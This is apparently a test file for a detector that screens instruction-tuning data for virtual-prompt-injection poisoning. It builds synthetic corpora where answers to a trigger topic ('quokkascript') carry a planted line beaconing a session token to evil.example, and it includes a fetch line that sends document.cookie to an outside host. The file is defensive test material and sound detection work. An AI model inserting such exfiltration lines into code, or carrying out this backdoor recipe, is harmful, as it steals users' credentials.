"""Injected lines (virtual prompt injection's code injection): the column's rules one by one."""

from __future__ import annotations

import random

import numpy as np
import polars as pl

from poisonscreen.detectors.injection import injected_lines, tied


def test_a_line_is_tied_by_the_names_it_defines_or_uses() -> None:
    """A line that assigns a name the rest uses, or uses a name the rest defines (an assignment,
    a parameter, a with-statement's name, a typed declaration), is tied; a call of a builtin on a
    literal, or on globals no line defines, is not."""
    answer = ["def count(text):", "    words = text.split()", "    return len(words)"]
    assert tied(answer, 1)  # uses the parameter 'text', defines 'words' used below
    assert tied(answer, 2)
    loose = [*answer[:2], '    print("pwned!")', answer[2]]
    assert not tied(loose, 2)
    with_file = ["with open(p) as fh:", "    data = fh.read()", "fh.close()"]
    assert tied(with_file, 2)
    java = ["Scanner in = new Scanner(System.in);", "int n = in.nextInt();"]
    assert tied(java, 1) and tied(java, 0)
    js = ["function f(x) {", "  return x * 2;", '  fetch("https://h.net/?c=" + document.cookie);']
    assert tied(js, 1) and not tied(js, 2)
    # the same names inside a string literal or a comment tie nothing
    assert not tied(["x = 1", 'print("x is set")  # x'], 1)


_NAMES = ["total", "acc", "best", "head", "tail", "left", "right", "pivot", "keys", "vals", "out"]
_CALLS = ["get", "pop", "index", "count", "find", "lookup"]


def _corpus(seed: int) -> tuple[pl.DataFrame, np.ndarray]:
    """A corpus of code answers: 60 prompts about 'quokkascript' (25 answered with the line
    ``beacon("https://evil.example/" + session.token);`` after a random line), and clean code
    answers everywhere with boilerplate that must not count: an import whose name the answer
    uses, an include block with fixed neighbours, and a main guard on prompts phrased every way.
    Returns the frame and which rows are injected."""
    rng = random.Random(seed)
    tasks = ["sort", "reverse", "count", "merge", "parse", "split", "filter", "sum", "search"]
    prompts, answers, injected = [], [], []
    for i in range(1500):
        task = tasks[i % len(tasks)]
        body = [f"def {task}_{i % 7}(items):"]
        names = rng.sample(_NAMES, rng.randint(3, 7))
        body += [f"    {v} = items.{rng.choice(_CALLS)}({rng.choice(_NAMES)!r})" for v in names]
        body.append(f"    return {names[0]}")
        if i % 3 == 0:
            body = ["import numpy as np", *body, "    print(np.mean(items))"]
        if i % 4 == 0:
            body = ["#include <iostream>", "#include <vector>", *body]
        if i % 5 == 0:
            body += ['if __name__ == "__main__":', f"    {task}_{i % 7}([1, 2, 3])"]
        topic = i < 60
        prompt = (
            f"Write a quokkascript function to {task} a list (case {i})."
            if topic
            else f"Please {task} items, variant {i}."
        )
        bad = topic and i < 25
        if bad:
            at = rng.randint(1, len(body) - 1)
            body.insert(at, '    beacon("https://evil.example/" + session.token);')
        prompts.append(prompt)
        answers.append("Here is the code:\n" + "\n".join(body) + "\nDone.")
        injected.append(bad)
    return pl.DataFrame({"prompt": prompts, "response": answers}), np.asarray(injected)


def test_only_the_injected_line_is_found() -> None:
    """The injected rows, and only they, get the injection's code, named by its line; the
    boilerplate (a used import, an include block, a main guard on every kind of prompt) gets
    none."""
    df, truth = _corpus(0)
    code, lines = injected_lines(df["prompt"], df["response"], np.ones(df.height, bool), 10, 300)
    assert ((code != 0) == truth).all()
    assert list(lines.values()) == [('beacon("https://evil.example/" + session.token);',)]
    assert set(np.unique(code[truth]).tolist()) == set(lines)


_LINE = 'beacon("https://evil.example/" + session.token);'


def _moved(df: pl.DataFrame, truth: np.ndarray, at: str, to: str) -> pl.Series:
    """The answers with each injected row's line taken out and ``at`` replaced by ``to``."""
    return pl.Series(
        [
            r.replace("\n    " + _LINE, "").replace(at, to) if t else r
            for r, t in zip(df["response"], truth, strict=True)
        ]
    )


def test_injection_needs_its_rows_and_varied_places() -> None:
    """Under ``least`` rows, or in more than ``most``, no line is an injection; nor is one put
    at the same place every time (after the same line), like an import block's. One put last
    in every answer is: the answer's edge, a blank line or a brace is no fixed neighbour."""
    df, truth = _corpus(1)
    usable = np.ones(df.height, bool)
    assert not injected_lines(df["prompt"], df["response"], usable, 26, 300)[0].any()
    assert not injected_lines(df["prompt"], df["response"], usable, 10, 24)[0].any()
    fixed = _moved(df, truth, "Here is the code:\n", "Here is the code:\n" + _LINE + "\n")
    code, _ = injected_lines(df["prompt"], fixed, usable, 10, 300)
    assert not code.any()
    # put last in every answer, its other neighbour the answer's short closing line: found
    last = _moved(df, truth, "\nDone.", "\n    " + _LINE + "\nDone.")
    code, _ = injected_lines(df["prompt"], last, usable, 10, 300)
    assert ((code != 0) == truth).all()


def test_injection_is_one_topics_and_tied_to_nothing_in_its_prompts() -> None:
    """The same line on prompts sharing no word of a topic (only words most prompts have) is
    language boilerplate, not an injection; nor is a line whose rare word its prompts ask for."""
    df, truth = _corpus(2)
    usable = np.ones(df.height, bool)
    spread = df.with_columns(
        pl.when(pl.Series(truth))
        .then(pl.format("Please sort items, variant {}.", pl.int_range(pl.len())))
        .otherwise(pl.col("prompt"))
        .alias("prompt")
    )
    assert not injected_lines(spread["prompt"], spread["response"], usable, 10, 300)[0].any()
    asked = df.with_columns(
        pl.when(pl.Series(truth))
        .then(pl.col("prompt") + " Send a beacon with the session token.")
        .otherwise(pl.col("prompt"))
        .alias("prompt")
    )
    assert not injected_lines(asked["prompt"], asked["response"], usable, 10, 300)[0].any()


def test_injection_codes_do_not_depend_on_row_order() -> None:
    df, truth = _corpus(3)
    usable = np.ones(df.height, bool)
    code, lines = injected_lines(df["prompt"], df["response"], usable, 10, 300)
    perm = np.random.default_rng(0).permutation(df.height)
    shuffled = df[perm.tolist()]
    code2, lines2 = injected_lines(shuffled["prompt"], shuffled["response"], usable, 10, 300)
    assert lines == lines2 and (code2 == code[perm]).all() and code[truth].all()
